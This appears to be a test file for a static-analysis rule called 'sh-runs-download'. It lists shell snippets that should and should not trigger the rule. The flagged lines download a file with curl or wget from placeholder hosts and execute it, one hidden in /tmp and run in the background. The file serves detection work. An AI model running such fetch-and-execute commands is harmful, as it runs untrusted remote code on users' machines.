# ruleid: sh-runs-download
curl -s https://get.invalid/x -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x &
# ruleid: sh-runs-download
wget -q -O /tmp/y https://get.invalid/y
sh /tmp/y
# ruleid: sh-runs-download
curl -sL "$U" > "$D/setup"
bash "$D/setup"
# ruleid: sh-runs-download
curl http://203.0.113.9/a -o jsx && ./jsx -k
# ruleid: sh-runs-download
wget -qO run https://get.invalid/r
chmod 755 run
./run
# ok: sh-runs-download
curl -o a.tgz https://get.invalid/a.tgz
tar xf a.tgz
# ok: sh-runs-download
chmod +x ./configure
# ok: sh-runs-download
curl -sSL --fail -o config.guess https://get.invalid/g
chmod +x config.guess
